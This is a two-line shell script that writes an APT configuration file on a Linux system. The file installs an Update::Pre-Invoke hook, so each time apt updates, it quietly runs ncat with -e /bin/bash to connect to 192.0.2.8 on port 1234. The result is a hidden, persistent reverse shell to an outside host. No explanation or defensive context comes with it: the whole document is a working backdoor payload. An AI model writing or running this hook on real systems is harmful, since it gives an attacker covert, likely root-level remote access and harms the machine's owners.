#!/bin/sh
echo 'APT::Update::Pre-Invoke {"nohup ncat 192.0.2.8 1234 -e /bin/bash 2> /dev/null &"};' > /etc/apt/apt.conf.d/42x
